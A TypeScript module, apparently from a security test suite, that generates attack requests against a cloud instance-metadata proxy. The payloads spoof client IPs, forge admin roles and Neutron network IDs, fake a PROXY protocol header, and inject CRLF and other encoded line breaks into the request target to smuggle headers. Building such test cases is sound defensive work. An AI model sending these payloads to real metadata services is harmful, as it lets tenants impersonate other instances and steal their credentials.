import { type Attack, linesOf, metaDataPath, request } from './attack.ts'
import type { Header } from './forged-headers.ts'

/** Targets and other headers by which a guest could say to the agent or to nova whom it wants to be. */
export function aimElsewhere(headers: readonly Header[]): readonly Attack[] {
  const lines = linesOf(headers)
  const value = (wanted: string) => headers.find(([name]) => name === wanted)?.[1] ?? ''
  const address = value('X-Forwarded-For')
  return [
    ...targetsOf(lines).flatMap(target =>
      ['GET', 'POST'].map(method => ({
        name: `target ${JSON.stringify(target)} by ${method}`,
        bytes: request([], `${method} ${target} HTTP/1.1`),
      })),
    ),
    ...[
      [`Forwarded: for=${address}`],
      [`X-Real-IP: ${address}`, `X-Client-IP: ${address}`, `True-Client-IP: ${address}`],
      [
        `X-Original-Forwarded-For: ${address}`,
        `X-Remote-Addr: ${address}`,
        `Remote_Addr: ${address}`,
      ],
      [
        'X-Metadata-Provider: x',
        `X-Metadata-Provider-Signature: ${value('X-Instance-ID-Signature')}`,
      ],
      ['X_Metadata_Provider: x', ...lines],
      [`X-OVN-Network-ID: ${value('X-Neutron-Network-ID')}`, `X-Forwarded-For: ${address}`],
      [`X-Quantum-Network-ID: ${value('X-Neutron-Network-ID')}`],
      [`X-Quantum-Router-ID: ${value('X-Neutron-Router-ID')}`],
      [`X-Identity-Status: Confirmed`, `X-Project-Id: ${value('X-Tenant-ID')}`, `X-Roles: admin`],
      [`Cookie: X-Instance-ID=${value('X-Instance-ID')}`],
    ].map(own => ({ name: JSON.stringify(own), bytes: request(own) })),
    {
      name: 'PROXY protocol',
      bytes: `PROXY TCP4 ${address} 169.254.169.254 1 80\r\n${request([])}`,
    },
    { name: 'a line before the request', bytes: `${lines.join('\r\n')}\r\n${request([])}` },
  ]
}

/** What is decoded may become lines of the next hop's request. */
function targetsOf(lines: readonly string[]): readonly string[] {
  const escaped = (end: string) => lines.map(line => encodeURIComponent(line)).join(end)
  const version = '%20HTTP/1.1'
  return ['%0d%0a', '%0a', '%0d', '%250d%250a', '%c4%8d%c4%8a', '%00', '%85'].flatMap(end => [
    `${metaDataPath}${version}${end}${escaped(end)}${end}${end}`,
    `${metaDataPath}?x=${version}${end}${escaped(end)}${end}${end}`,
    `${metaDataPath}${version}${end}Host:%20x${end}${escaped(end)}${end}X-Other:%20`,
  ])
}
